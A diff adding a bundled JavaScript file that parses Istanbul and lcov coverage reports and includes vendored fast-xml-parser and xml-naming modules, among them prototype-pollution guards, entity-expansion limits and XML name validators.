+
+/** Istanbul coverage-final.json: per file, statements with start lines and hit counts (line hits as istanbul-lib-coverage derives them). */
+function readIstanbulFinal(data, name) {
+    const files = [];
+    for (const [key, fc] of Object.entries(data)) {
+        if (!fc.statementMap || !fc.s)
+            throw new ConfigurationError(`${name}: entry "${key}" has no statementMap/s; not an istanbul coverage-final.json.`);
+        const file = { path: fc.path ?? key, lines: [] };
+        for (const [id, loc] of Object.entries(fc.statementMap))
+            hit(file.lines, loc.start?.line ?? 0, fc.s[id] ?? 0);
+        files.push(file);
+    }
+    return { format: 'istanbul-final', files };
+}
+/** Istanbul coverage-summary.json (json-summary reporter): totals only, so patch coverage needs another format. */
+function readIstanbulSummary(data, name) {
+    const total = data.total?.lines;
+    if (typeof total?.total !== 'number' || typeof total.covered !== 'number')
+        throw new ConfigurationError(`${name}: no total.lines.{total,covered}; not an istanbul coverage-summary.json.`);
+    return { format: 'istanbul-summary', files: [], totals: { covered: total.covered, total: total.total } };
+}
+
+;// CONCATENATED MODULE: ./packages/core/src/gate/coverage/lcov.ts
+
+
+/**
+ * lcov tracefile (geninfo(1) "TRACEFILE FORMAT"): `SF:<path>` opens a record, `DA:<line>,<count>[,<checksum>]`
+ * gives a line, `end_of_record` closes it. Other records (FN, BRDA, LF/LH …) are not needed for line coverage.
+ */
+function readLcov(text, name) {
+    const files = [];
+    let current;
+    let start = 0;
+    let lineNo = 0;
+    while (start <= text.length) {
+        let end = text.indexOf('\n', start);
+        if (end < 0)
+            end = text.length;
+        lineNo++;
+        // Line-by-line with indexOf, not split(): a 50 MB report must not become a million-string array.
+        const c0 = text.charCodeAt(start);
+        if (c0 === 68 /* D */ && text.charCodeAt(start + 1) === 65 && text.charCodeAt(start + 2) === 58) {
+            if (!current)
+                throw new ConfigurationError(`${name}:${lineNo}: lcov DA record before any SF: record; is this a complete lcov tracefile?`);
+            // DA:<line>,<count>[,<checksum>], digits read in place: no substrings for millions of records.
+            let i = start + 3;
+            let line = 0;
+            let digits = 0;
+            for (let c = text.charCodeAt(i); c >= 48 && c <= 57; c = text.charCodeAt(++i), digits++)
+                line = line * 10 + c - 48;
+            let count = 0;
+            let countDigits = 0;
+            if (text.charCodeAt(i) === 44 /* , */) {
+                const negative = text.charCodeAt(i + 1) === 45; // some gcov versions write -1 for unexecutable lines
+                if (negative)
+                    i++;
+                for (let c = text.charCodeAt(++i); c >= 48 && c <= 57; c = text.charCodeAt(++i), countDigits++)
+                    count = count * 10 + c - 48;
+                if (text.charCodeAt(i) === 46 /* . */) {
+                    const comma = text.indexOf(',', i);
+                    count = Number(text.slice(i - countDigits, comma < 0 || comma > end ? end : comma)); // fractional counts (llvm-cov export)
+                }
+                if (negative)
+                    count = 0;
+            }
+            if (!digits || !countDigits)
+                throw new ConfigurationError(`${name}:${lineNo}: malformed lcov DA record; expected DA:<line>,<count>.`);
+            hit(current.lines, line, count);
+        }
+        else if (c0 === 83 /* S */ && text.startsWith('SF:', start)) {
+            current = { path: text.slice(start + 3, end).trim(), lines: [] };
+            files.push(current);
+        }
+        else if (c0 === 101 /* e */ && text.startsWith('end_of_record', start)) {
+            current = undefined;
+        }
+        start = end + 1;
+    }
+    if (!files.length)
+        throw new ConfigurationError(`${name}: no SF: records; this is not an lcov tracefile with coverage data.`);
+    return { format: 'lcov', files };
+}
+
+;// CONCATENATED MODULE: ./node_modules/fast-xml-parser/src/util.js
+
+
+const nameStartChar = ':A-Za-z_\\u00C0-\\u00D6\\u00D8-\\u00F6\\u00F8-\\u02FF\\u0370-\\u037D\\u037F-\\u1FFF\\u200C-\\u200D\\u2070-\\u218F\\u2C00-\\u2FEF\\u3001-\\uD7FF\\uF900-\\uFDCF\\uFDF0-\\uFFFD';
+const nameChar = nameStartChar + '\\-.\\d\\u00B7\\u0300-\\u036F\\u203F-\\u2040';
+const nameRegexp = '[' + nameStartChar + '][' + nameChar + ']*';
+const regexName = new RegExp('^' + nameRegexp + '$');
+
+function getAllMatches(string, regex) {
+  const matches = [];
+  let match = regex.exec(string);
+  while (match) {
+    const allmatches = [];
+    allmatches.startIndex = regex.lastIndex - match[0].length;
+    const len = match.length;
+    for (let index = 0; index < len; index++) {
+      allmatches.push(match[index]);
+    }
+    matches.push(allmatches);
+    match = regex.exec(string);
+  }
+  return matches;
+}
+
+const isName = function (string) {
+  const match = regexName.exec(string);
+  return !(match === null || typeof match === 'undefined');
+}
+
+function isExist(v) {
+  return typeof v !== 'undefined';
+}
+
+function isEmptyObject(obj) {
+  return Object.keys(obj).length === 0;
+}
+
+function getValue(v) {
+  if (exports.isExist(v)) {
+    return v;
+  } else {
+    return '';
+  }
+}
+
+/**
+ * Dangerous property names that could lead to prototype pollution or security issues
+ */
+const DANGEROUS_PROPERTY_NAMES = [
+  // '__proto__',
+  // 'constructor',
+  // 'prototype',
+  'hasOwnProperty',
+  'toString',
+  'valueOf',
+  '__defineGetter__',
+  '__defineSetter__',
+  '__lookupGetter__',
+  '__lookupSetter__'
+];
+
+const criticalProperties = ["__proto__", "constructor", "prototype"];
+;// CONCATENATED MODULE: ./node_modules/fast-xml-parser/src/xmlparser/OptionsBuilder.js
+
+
+
+const defaultOnDangerousProperty = (name) => {
+  if (DANGEROUS_PROPERTY_NAMES.includes(name)) {
+    return "__" + name;
+  }
+  return name;
+};
+
+
+const defaultOptions = {
+  preserveOrder: false,
+  attributeNamePrefix: '@_',
+  attributesGroupName: false,
+  textNodeName: '#text',
+  ignoreAttributes: true,
+  removeNSPrefix: false, // remove NS from tag name or attribute name if true
+  allowBooleanAttributes: false, //a tag can have attributes without any value
+  //ignoreRootElement : false,
+  parseTagValue: true,
+  parseAttributeValue: false,
+  trimValues: true, //Trim string values of tag and attributes
+  cdataPropName: false,
+  numberParseOptions: {
+    hex: true,
+    leadingZeros: true,
+    eNotation: true,
+    unicode: false
+  },
+  tagValueProcessor: function (tagName, val) {
+    return val;
+  },
+  attributeValueProcessor: function (attrName, val) {
+    return val;
+  },
+  stopNodes: [], //nested tags will not be parsed even for errors
+  alwaysCreateTextNode: false,
+  isArray: () => false,
+  commentPropName: false,
+  unpairedTags: [],
+  processEntities: true,
+  htmlEntities: false,
+  entityDecoder: null,
+  ignoreDeclaration: false,
+  ignorePiTags: false,
+  transformTagName: false,
+  transformAttributeName: false,
+  updateTag: function (tagName, jPath, attrs) {
+    return tagName
+  },
+  // skipEmptyListItem: false
+  captureMetaData: false,
+  maxNestedTags: 100,
+  strictReservedNames: true,
+  jPath: true, // if true, pass jPath string to callbacks; if false, pass matcher instance
+  onDangerousProperty: defaultOnDangerousProperty
+};
+
+
+/**
+ * Validates that a property name is safe to use
+ * @param {string} propertyName - The property name to validate
+ * @param {string} optionName - The option field name (for error message)
+ * @throws {Error} If property name is dangerous
+ */
+function validatePropertyName(propertyName, optionName) {
+  if (typeof propertyName !== 'string') {
+    return; // Only validate string property names
+  }
+
+  const normalized = propertyName.toLowerCase();
+  if (DANGEROUS_PROPERTY_NAMES.some(dangerous => normalized === dangerous.toLowerCase())) {
+    throw new Error(
+      `[SECURITY] Invalid ${optionName}: "${propertyName}" is a reserved JavaScript keyword that could cause prototype pollution`
+    );
+  }
+
+  if (criticalProperties.some(dangerous => normalized === dangerous.toLowerCase())) {
+    throw new Error(
+      `[SECURITY] Invalid ${optionName}: "${propertyName}" is a reserved JavaScript keyword that could cause prototype pollution`
+    );
+  }
+}
+
+/**
+ * Normalizes processEntities option for backward compatibility
+ * @param {boolean|object} value 
+ * @returns {object} Always returns normalized object
+ */
+function normalizeProcessEntities(value, htmlEntities) {
+  // Boolean backward compatibility
+  if (typeof value === 'boolean') {
+    return {
+      enabled: value, // true or false
+      maxEntitySize: 10000,
+      maxExpansionDepth: 10000,
+      maxTotalExpansions: Infinity,
+      maxExpandedLength: 100000,
+      maxEntityCount: 1000,
+      allowedTags: null,
+      tagFilter: null,
+      appliesTo: "all",
+    };
+  }
+
+  // Object config - merge with defaults
+  if (typeof value === 'object' && value !== null) {
+    return {
+      enabled: value.enabled !== false,
+      maxEntitySize: Math.max(1, value.maxEntitySize ?? 10000),
+      maxExpansionDepth: Math.max(1, value.maxExpansionDepth ?? 10000),
+      maxTotalExpansions: Math.max(1, value.maxTotalExpansions ?? Infinity),
+      maxExpandedLength: Math.max(1, value.maxExpandedLength ?? 100000),
+      maxEntityCount: Math.max(1, value.maxEntityCount ?? 1000),
+      allowedTags: value.allowedTags ?? null,
+      tagFilter: value.tagFilter ?? null,
+      appliesTo: value.appliesTo ?? "all",
+    };
+  }
+
+  // Default to enabled with limits
+  return normalizeProcessEntities(true);
+}
+
+const buildOptions = function (options) {
+  const built = Object.assign({}, defaultOptions, options);
+
+  // Validate property names to prevent prototype pollution
+  const propertyNameOptions = [
+    { value: built.attributeNamePrefix, name: 'attributeNamePrefix' },
+    { value: built.attributesGroupName, name: 'attributesGroupName' },
+    { value: built.textNodeName, name: 'textNodeName' },
+    { value: built.cdataPropName, name: 'cdataPropName' },
+    { value: built.commentPropName, name: 'commentPropName' }
+  ];
+
+  for (const { value, name } of propertyNameOptions) {
+    if (value) {
+      validatePropertyName(value, name);
+    }
+  }
+
+  if (built.onDangerousProperty === null) {
+    built.onDangerousProperty = defaultOnDangerousProperty;
+  }
+
+  // Always normalize processEntities for backward compatibility and validation
+  built.processEntities = normalizeProcessEntities(built.processEntities, built.htmlEntities);
+  built.unpairedTagsSet = new Set(built.unpairedTags);
+  // Convert old-style stopNodes for backward compatibility
+  if (built.stopNodes && Array.isArray(built.stopNodes)) {
+    built.stopNodes = built.stopNodes.map(node => {
+      if (typeof node === 'string' && node.startsWith('*.')) {
+        // Old syntax: *.tagname meant "tagname anywhere"
+        // Convert to new syntax: ..tagname
+        return '..' + node.substring(2);
+      }
+      return node;
+    });
+  }
+  //console.debug(built.processEntities)
+  return built;
+};
+;// CONCATENATED MODULE: ./node_modules/fast-xml-parser/src/xmlparser/xmlNode.js
+
+
+let METADATA_SYMBOL;
+
+if (typeof Symbol !== "function") {
+  METADATA_SYMBOL = "@@xmlMetadata";
+} else {
+  METADATA_SYMBOL = Symbol("XML Node Metadata");
+}
+
+class XmlNode {
+  constructor(tagname) {
+    this.tagname = tagname;
+    this.child = []; //nested tags, text, cdata, comments in order
+    this[":@"] = Object.create(null); //attributes map
+  }
+  add(key, val) {
+    // this.child.push( {name : key, val: val, isCdata: isCdata });
+    if (key === "__proto__") key = "#__proto__";
+    this.child.push({ [key]: val });
+  }
+  addChild(node, startIndex) {
+    if (node.tagname === "__proto__") node.tagname = "#__proto__";
+    if (node[":@"] && Object.keys(node[":@"]).length > 0) {
+      this.child.push({ [node.tagname]: node.child, [":@"]: node[":@"] });
+    } else {
+      this.child.push({ [node.tagname]: node.child });
+    }
+    // if requested, add the startIndex
+    this.addStartIndex(startIndex);
+  }
+
+  addStartIndex(startIndex) {
+    if (startIndex !== undefined) {
+      // Note: for now we just overwrite the metadata. If we had more complex metadata,
+      // we might need to do an object append here:  metadata = { ...metadata, startIndex }
+      this.child[this.child.length - 1][METADATA_SYMBOL] = { startIndex };
+    }
+  }
+
+  addEndIndex(endIndex) {
+    const lastChild = this.child[this.child.length - 1];
+    // endIndex is write-once: when updateTag drops a node, the last child is a
+    // previously completed sibling whose endIndex must not be overwritten
+    if (lastChild !== undefined && lastChild[METADATA_SYMBOL] !== undefined
+      && lastChild[METADATA_SYMBOL].endIndex === undefined) {
+      lastChild[METADATA_SYMBOL].endIndex = endIndex;
+    }
+  }
+  /** symbol used for metadata */
+  static getMetaDataSymbol() {
+    return METADATA_SYMBOL;
+  }
+}
+
+;// CONCATENATED MODULE: ./node_modules/xml-naming/src/index.js
+/**
+ * xml-naming
+ * Validates XML Name productions as defined in the XML 1.0 and 1.1 specifications.
+ * Covers: Name, NCName, QName, NMToken, NMTokens
+ *
+ * XML 1.0 spec: https://www.w3.org/TR/xml/#NT-Name
+ * XML 1.1 spec: https://www.w3.org/TR/xml11/#NT-NameStartChar
+ * XML NS spec:  https://www.w3.org/TR/xml-names/#NT-NCName
+ */
+
+// ---------------------------------------------------------------------------
+// Character class strings — XML 1.0
+//
+// NameStartChar ::= ":" | [A-Z] | "_" | [a-z]
+//   | [#xC0-#xD6]   | [#xD8-#xF6]   | [#xF8-#x2FF]
+//   | [#x370-#x37D] | [#x37F-#x1FFF]    <- split to exclude #x0487
+//   | [#x200C-#x200D]
+//   | [#x2070-#x218F] | [#x2C00-#x2FEF]
+//   | [#x3001-#xD7FF] | [#xF900-#xFDCF] | [#xFDF0-#xFFFD]
+//
+// NameChar ::= NameStartChar | "-" | "." | [0-9]
+//   | #xB7 | [#x0300-#x036F] | [#x203F-#x2040]
+//
+// Note: \u0487 (Combining Cyrillic Millions Sign) was added in Unicode 4.0,
+// after XML 1.0 was defined against Unicode 2.0. It falls inside the range
+// \u037F-\u1FFF but must be excluded. We split that range into
+// \u037F-\u0486 and \u0488-\u1FFF to exclude it explicitly.
+// ---------------------------------------------------------------------------
+
+const nameStartChar10 =
+  ':A-Za-z_' +
+  '\u00C0-\u00D6\u00D8-\u00F6\u00F8-\u02FF' +
+  '\u0370-\u037D' +
+  '\u037F-\u0486\u0488-\u1FFF' +  // split to exclude \u0487
+  '\u200C-\u200D' +
+  '\u2070-\u218F' +
+  '\u2C00-\u2FEF' +
+  '\u3001-\uD7FF' +
+  '\uF900-\uFDCF' +
+  '\uFDF0-\uFFFD';
+
+const nameChar10 =
+  nameStartChar10 +
+  '\\-\\.\\d' +
+  '\u00B7' +
+  '\u0300-\u036F' +
+  '\u203F-\u2040';
+
+// ---------------------------------------------------------------------------
+// Character class strings — XML 1.1
+//
+// Differences from XML 1.0:
+//
+// NameStartChar:
+//   1.0 has split ranges: \u00C0-\u00D6, \u00D8-\u00F6, \u00F8-\u02FF
+//   1.1 merges them into: \u00C0-\u02FF
+//   (\u00D7 x and \u00F7 / are division symbols, excluded in both versions)
+//
+//   1.0 tops out at \uFFFD (BMP only)
+//   1.1 adds \u{10000}-\u{EFFFF} (supplementary planes)
+//   These require the /u flag on the RegExp — see buildRegexes below.
+//
+// NameChar:
+//   1.1 adds \u0487 (Combining Cyrillic Millions Sign, added in Unicode 4.0)
+// ---------------------------------------------------------------------------
+
+const nameStartChar11 =
+  ':A-Za-z_' +
+  '\u00C0-\u02FF' +                    // merged — 1.0 had three split ranges here
+  '\u0370-\u037D' +
+  '\u037F-\u0486\u0488-\u1FFF' +       // split to exclude \u0487 (combining mark, never a NameStartChar)
+  '\u200C-\u200D' +
+  '\u2070-\u218F' +
+  '\u2C00-\u2FEF' +
+  '\u3001-\uD7FF' +
+  '\uF900-\uFDCF' +
+  '\uFDF0-\uFFFD' +
+  '\u{10000}-\u{EFFFF}';     // supplementary planes — REQUIRES /u flag on RegExp
+
+const nameChar11 =
+  nameStartChar11 +
+  '\\-\\.\\d' +
+  '\u00B7' +
+  '\u0300-\u036F' +
+  '\u0487' +                 // Combining Cyrillic Millions Sign — valid in 1.1, not 1.0
+  '\u203F-\u2040';
+
+// ---------------------------------------------------------------------------
+// Regex builders
+//
+// XML 1.0 regexes: no flags — BMP only, standard JS regex behaviour.
+// XML 1.1 regexes: /u flag — required for \u{10000}-\u{EFFFF} to match actual
+//   supplementary code points rather than lone surrogates (which are illegal XML).
+// ---------------------------------------------------------------------------
+
+const buildRegexes = (startChar, char, flags = '') => {
+  const ncStart = startChar.replace(':', '');
+  const ncChar = char.replace(':', '');
+  const ncNamePat = `[${ncStart}][${ncChar}]*`;
+
+  return {
+    name: new RegExp(`^[${startChar}][${char}]*$`, flags),
+    ncName: new RegExp(`^${ncNamePat}$`, flags),
+    qName: new RegExp(`^${ncNamePat}(?::${ncNamePat})?$`, flags),
+    nmToken: new RegExp(`^[${char}]+$`, flags),
+    nmTokens: new RegExp(`^[${char}]+(?:\\s+[${char}]+)*$`, flags),
+  };
+};
+
+const regexes10 = buildRegexes(nameStartChar10, nameChar10);       // no /u — BMP only
+const regexes11 = buildRegexes(nameStartChar11, nameChar11, 'u');  // /u — enables \u{10000}-\u{EFFFF}
+
+// ---------------------------------------------------------------------------
+// ASCII-only fast path (opt-in, off by default)
+//
+// The XML 1.0 vs 1.1 NameStartChar/NameChar productions differ *only* in
+// their non-ASCII ranges (merged vs split Latin-1 ranges, \u0487, and
+// supplementary planes). Restricted to ASCII, both versions collapse to the
+// same character classes, so a single regex pair covers both xmlVersion
+// values — no /u flag needed.
+//
+// Rationale: unicode-aware regexes (the /u flag, required for XML 1.1's
+// supplementary-plane range) are measurably slower in V8 than plain
+// non-unicode regexes on the same input, even when the input is pure ASCII.
+// For the common case — HTML/SVG ids, XML tags — names are ASCII, so callers
+// who know this can opt in to skip the unicode-aware matching path entirely.
+// This is a real but *conditional* win: mainly for XML 1.1 input (avoids /u),
+// or at scale where the larger unicode character classes add engine
+// overhead. It also changes behaviour (rejects legitimate non-ASCII XML
+// 1.0/1.1 names), so it must never be silently enabled — hence off by
+// default.
+// ---------------------------------------------------------------------------
+
+const nameStartCharAscii = ':A-Za-z_';
+const nameCharAscii = nameStartCharAscii + '\\-\\.\\d';
+
+const regexesAscii = buildRegexes(nameStartCharAscii, nameCharAscii); // no /u — ASCII only
+
+const getRegexes = (xmlVersion = '1.0', asciiOnly = false) => {
+  if (asciiOnly) return regexesAscii;
+  return xmlVersion === '1.1' ? regexes11 : regexes10;
+};
+
+// ---------------------------------------------------------------------------
+// Boolean validators
+// ---------------------------------------------------------------------------
+
+/**
+ * Returns true if the string is a valid XML Name.
+ * Colons are allowed anywhere (Name production).
+ * Used for: DOCTYPE entity names, notation names, DTD element declarations.
+ *
+ * @param {{ xmlVersion?: '1.0'|'1.1', asciiOnly?: boolean }} [opts]
+ *   asciiOnly: skip unicode-aware matching, ASCII names only (default false).
+ */
+const src_name = (str, { xmlVersion = '1.0', asciiOnly = false } = {}) =>
+  getRegexes(xmlVersion, asciiOnly).name.test(str);
+
+/**
+ * Returns true if the string is a valid NCName (Non-Colonized Name).
+ * Colons are not permitted.
+ * Used for: namespace prefixes, local names, SVG id attributes.
+ *
+ * @param {{ xmlVersion?: '1.0'|'1.1', asciiOnly?: boolean }} [opts]
+ *   asciiOnly: skip unicode-aware matching, ASCII names only (default false).
+ */
+const ncName = (str, { xmlVersion = '1.0', asciiOnly = false } = {}) =>
+  getRegexes(xmlVersion, asciiOnly).ncName.test(str);
+
+/**
+ * Returns true if the string is a valid QName (Qualified Name).
+ * Allows exactly one colon as a prefix separator: prefix:localName.
+ * Used for: element and attribute names in namespace-aware XML/SVG.
+ *
+ * @param {{ xmlVersion?: '1.0'|'1.1', asciiOnly?: boolean }} [opts]
+ *   asciiOnly: skip unicode-aware matching, ASCII names only (default false).
+ */
+const qName = (str, { xmlVersion = '1.0', asciiOnly = false } = {}) =>
+  getRegexes(xmlVersion, asciiOnly).qName.test(str);
+
+/**
+ * Returns true if the string is a valid NMToken.
+ * Like Name but no restriction on the first character.
+ * Used for: DTD NMTOKEN attribute values.
+ *
+ * @param {{ xmlVersion?: '1.0'|'1.1', asciiOnly?: boolean }} [opts]
+ *   asciiOnly: skip unicode-aware matching, ASCII names only (default false).
+ */
+const nmToken = (str, { xmlVersion = '1.0', asciiOnly = false } = {}) =>
+  getRegexes(xmlVersion, asciiOnly).nmToken.test(str);
+
+/**
+ * Returns true if the string is a valid NMTokens value.
+ * A whitespace-separated list of NMToken values.
+ * Used for: DTD NMTOKENS attribute values.
+ *
+ * @param {{ xmlVersion?: '1.0'|'1.1', asciiOnly?: boolean }} [opts]
+ *   asciiOnly: skip unicode-aware matching, ASCII names only (default false).
+ */
+const nmTokens = (str, { xmlVersion = '1.0', asciiOnly = false } = {}) =>
+  getRegexes(xmlVersion, asciiOnly).nmTokens.test(str);
+
+// ---------------------------------------------------------------------------
+// Memoized validator factory
+//
+// Real documents reuse a small vocabulary of tag/attribute names across many
+// siblings (e.g. `id`, `class`, `href` repeated across hundreds of elements).
+// The plain boolean validators above re-run the regex on every call
+// regardless of repeats. `createValidator` returns a closure with a private
+// string -> boolean cache, so repeated names after the first become O(1)
+// lookups instead of regex tests.
+//
+// - opts (xmlVersion, asciiOnly) are fixed at creation time, so the regex is
+//   resolved once, not on every call.
+// - The cache is private to the returned closure — no shared/global state,
+//   no cross-caller pollution.
+// - `maxCacheSize` bounds memory: once the cache reaches this many entries,
+//   it stops accepting new ones (existing entries keep serving hits; new
+//   misses just fall through to the regex, uncached). This avoids unbounded
+//   growth against adversarial/high-cardinality input (e.g. validating
+//   attacker-supplied names with no repeats) without the cost/complexity of
+//   a full LRU, and without the perf cliff of reset-and-refill thrashing.
+// - Call `.reset()` on the returned function to clear the cache manually
+//   (e.g. between unrelated parse calls).
+// ---------------------------------------------------------------------------
+
+const PRODUCTIONS = (/* unused pure expression or super */ null && (['name', 'ncName', 'qName', 'nmToken', 'nmTokens']));
+
+/**
+ * Returns a memoized boolean validator function for a single production,
+ * with opts fixed at creation time.
+ *
+ * @param {'name'|'ncName'|'qName'|'nmToken'|'nmTokens'} production
+ * @param {{ xmlVersion?: '1.0'|'1.1', asciiOnly?: boolean, maxCacheSize?: number }} [opts]
+ *   maxCacheSize: max number of distinct strings to cache (default 2048).
+ *   Once reached, new strings are validated but not cached; existing cached
+ *   entries keep being served.
+ * @returns {((str: string) => boolean) & { reset: () => void }}
+ */
+const createValidator = (production, { xmlVersion = '1.0', asciiOnly = false, maxCacheSize = 2048 } = {}) => {
+  if (!PRODUCTIONS.includes(production)) {
+    throw new TypeError(
+      `Unknown production "${production}". Must be one of: ${PRODUCTIONS.join(', ')}`
+    );
+  }
+
+  const regex = getRegexes(xmlVersion, asciiOnly)[production];
+  let cache = new Map();
+
+  const validator = (str) => {
+    const cached = cache.get(str);
+    if (cached !== undefined) return cached;
+
+    const result = regex.test(str);
+    if (cache.size < maxCacheSize) cache.set(str, result);
+    return result;
+  };
+
+  validator.reset = () => { cache = new Map(); };
+
+  return validator;
+};
+
+// ---------------------------------------------------------------------------
+// Diagnostic validator
+// ---------------------------------------------------------------------------
+
+/**
+ * Validates a string against a named production and returns a detailed result.
+ *
+ * @param {string} str
+ * @param {'name'|'ncName'|'qName'|'nmToken'|'nmTokens'} production
+ * @param {{ xmlVersion?: '1.0'|'1.1', asciiOnly?: boolean }} [opts]
+ * @returns {{ valid: boolean, production: string, input: string, reason?: string, position?: number }}
+ */
+const src_validate = (str, production, { xmlVersion = '1.0', asciiOnly = false } = {}) => {
+  if (!PRODUCTIONS.includes(production)) {
+    throw new TypeError(
+      `Unknown production "${production}". Must be one of: ${PRODUCTIONS.join(', ')}`
+    );
+  }
+
+  const validators = { name: src_name, ncName, qName, nmToken, nmTokens };
+  const isValid = validators[production](str, { xmlVersion, asciiOnly });
+
+  if (isValid) return { valid: true, production, input: str };
+
+  let reason = 'Does not match the production rules';
+  let position;
+
+  // Diagnostic fallback char checks must mirror the same character set the
+  // boolean validator above used, or the reported reason/position could
+  // contradict the `valid: false` result (e.g. flagging a char as illegal
+  // that the unicode-aware check would have accepted).
+  const startCharPattern = asciiOnly ? /^[:A-Za-z_]/ : /^[:A-Za-z_\u00C0-\uFFFD]/;
+  const namePattern = asciiOnly ? /[\w\-\\.:]/ : /[\w\-\\.:\u00B7\u00C0-\uFFFD]/;
+
+  if (str.length === 0) {
+    reason = 'Input is empty';
+  } else if (production === 'ncName' && str.includes(':')) {
+    position = str.indexOf(':');
+    reason = 'Colon is not allowed in NCName';
+  } else if (production === 'qName' && str.startsWith(':')) {
+    reason = 'QName cannot start with a colon';
+    position = 0;
+  } else if (production === 'qName' && str.endsWith(':')) {
+    reason = 'QName cannot end with a colon';
+    position = str.length - 1;
+  } else if (production === 'qName' && (str.match(/:/g) || []).length > 1) {
+    reason = 'QName can have at most one colon';
+    position = str.lastIndexOf(':');
+  } else if (
+    ['name', 'ncName', 'qName'].includes(production) &&
+    !startCharPattern.test(str[0])
+  ) {
+    reason = `First character "${str[0]}" is not a valid NameStartChar`;
+    position = 0;
+  } else {
+    for (let i = 0; i < str.length; i++) {
+      if (!namePattern.test(str[i])) {
+        reason = `Character "${str[i]}" at position ${i} is not a valid NameChar`;
+        position = i;
+        break;
+      }
+    }
+  }
+
+  return { valid: false, production, input: str, reason, position };
+};
+
+// ---------------------------------------------------------------------------
+// Batch validator
+// ---------------------------------------------------------------------------
+
+/**
+ * Validates an array of strings against a named production.
+ *
+ * @param {string[]} strings
+ * @param {'name'|'ncName'|'qName'|'nmToken'|'nmTokens'} production
+ * @param {{ xmlVersion?: '1.0'|'1.1', asciiOnly?: boolean }} [opts]
+ * @returns {Array<{ valid: boolean, production: string, input: string, reason?: string, position?: number }>}
+ */
+const validateAll = (strings, production, opts = {}) =>
+  strings.map(str => src_validate(str, production, opts));
+
+// ---------------------------------------------------------------------------
+// Sanitizer
+// ---------------------------------------------------------------------------
+
+/**
+ * Transforms an invalid string into the nearest valid XML name for the given production.
+ *
+ * @param {string} str
+ * @param {'name'|'ncName'|'qName'|'nmToken'|'nmTokens'} production
+ * @param {{ replacement?: string, asciiOnly?: boolean }} [opts]
+ *   asciiOnly: also replace any non-ASCII character, not just XML-illegal
+ *   ones (default false).
+ * @returns {string}
+ */
+const sanitize = (str, production = 'name', { replacement = '_', asciiOnly = false } = {}) => {
+  if (!str) return replacement;
+
+  let result = str;
+
+  // Strip colons for NCName
+  if (production === 'ncName') {
+    result = result.replace(/:/g, '');
+  }
+
+  // Replace illegal characters
+  const allowedCharPattern = asciiOnly ? /[^\w\-\.:]/g : /[^\w\-\.:\u00B7\u00C0-\uFFFD]/g;
+  result = result.replace(allowedCharPattern, replacement);
+
+  // Fix invalid start character for Name / NCName / QName
+  if (production !== 'nmToken' && production !== 'nmTokens') {
+    if (/^[\-\.\d]/.test(result)) {
+      result = replacement + result;
+    }
+  }
+
+  return result || replacement;
+};
+;// CONCATENATED MODULE: ./node_modules/fast-xml-parser/src/xmlparser/DocTypeReader.js
+
+
+class DocTypeReader {
+    constructor(options, xmlVersion) {
+        this.suppressValidationErr = !options;
+        this.options = options;
+        this.xmlVersion = xmlVersion || 1.0;
+    }
+
+    setXmlVersion(xmlVersion = 1.0) {
+        this.xmlVersion = xmlVersion;
+    }
+    readDocType(xmlData, i) {
+        const entities = Object.create(null);
+        let entityCount = 0;
+
+        if (xmlData[i + 3] === 'O' &&
+            xmlData[i + 4] === 'C' &&
+            xmlData[i + 5] === 'T' &&
+            xmlData[i + 6] === 'Y' &&
+            xmlData[i + 7] === 'P' &&
+            xmlData[i + 8] === 'E') {
+            i = i + 9;
+            let angleBracketsCount = 1;
+            let hasBody = false, comment = false;
+            let quoteChar = null; // tracks an open SYSTEM/PUBLIC literal before the '[' body
+            let exp = "";
+            for (; i < xmlData.length; i++) {
+                // Inside a quoted external-identifier literal — XML allows '<'
+                // and '>' as plain data here, so they must not be interpreted
+                // as DOCTYPE structure until the matching quote closes.
+                if (quoteChar !== null) {
+                    if (xmlData[i] === quoteChar) quoteChar = null;
+                    exp += xmlData[i];
+                    continue;
+                }
+                if (!hasBody && !comment && (xmlData[i] === '"' || xmlData[i] === "'")) {
+                    quoteChar = xmlData[i];
+                    exp += xmlData[i];
+                    continue;
+                }
+
+                if (xmlData[i] === '<' && !comment) { //Determine the tag type
+                    if (hasBody && hasSeq(xmlData, "!ENTITY", i)) {
+                        i += 7;
+                        let entityName, val;
+                        [entityName, val, i] = this.readEntityExp(xmlData, i + 1, this.suppressValidationErr);
+                        if (val.indexOf("&") === -1) { //Parameter entities are not supported
+                            if (this.options.enabled !== false &&
+                                this.options.maxEntityCount != null &&
+                                entityCount >= this.options.maxEntityCount) {
+                                throw new Error(
+                                    `Entity count (${entityCount + 1}) exceeds maximum allowed (${this.options.maxEntityCount})`
+                                );
+                            }
+                            //const escaped = entityName.replace(/[.\-+*:]/g, '\\.');
+                            //const escaped = entityName.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
+                            entities[entityName] = val;
+                            entityCount++;
+                        }
+                    }
+                    else if (hasBody && hasSeq(xmlData, "!ELEMENT", i)) {
+                        i += 8;//Not supported
+                        const { index } = this.readElementExp(xmlData, i + 1);
+                        i = index;
+                    } else if (hasBody && hasSeq(xmlData, "!ATTLIST", i)) {
+                        i += 8;//Not supported
+                        // const {index} = this.readAttlistExp(xmlData,i+1);
+                        // i = index;
+                    } else if (hasBody && hasSeq(xmlData, "!NOTATION", i)) {
+                        i += 9;//Not supported
+                        const { index } = this.readNotationExp(xmlData, i + 1, this.suppressValidationErr);
+                        i = index;
+                    } else if (hasSeq(xmlData, "!--", i)) comment = true;
+                    else throw new Error(`Invalid DOCTYPE`);
+
+                    angleBracketsCount++;
+                    exp = "";
+                } else if (xmlData[i] === '>') { //Read tag content
+                    if (comment) {
+                        if (xmlData[i - 1] === "-" && xmlData[i - 2] === "-") {
+                            comment = false;
+                            angleBracketsCount--;
+                        }
+                    } else {
+                        angleBracketsCount--;
+                    }
+                    if (angleBracketsCount === 0) {
+                        break;
+                    }
+                } else if (xmlData[i] === '[') {
+                    hasBody = true;
+                } else {
+                    exp += xmlData[i];
+                }
+            }
+            if (quoteChar !== null || angleBracketsCount !== 0) {
+                throw new Error(`Unclosed DOCTYPE`);
+            }
+        } else {
+            throw new Error(`Invalid Tag instead of DOCTYPE`);
+        }
+        return { entities, i };
+    }
+    readEntityExp(xmlData, i) {
+        //External entities are not supported
+        //    <!ENTITY ext SYSTEM "http://normal-website.com" >
+
+        //Parameter entities are not supported
+        //    <!ENTITY entityname "&anotherElement;">
+
+        //Internal entities are supported
+        //    <!ENTITY entityname "replacement text">
+
+        // Skip leading whitespace after <!ENTITY
+        i = skipWhitespace(xmlData, i);
+
+        // Read entity name
+        const startIndex = i;
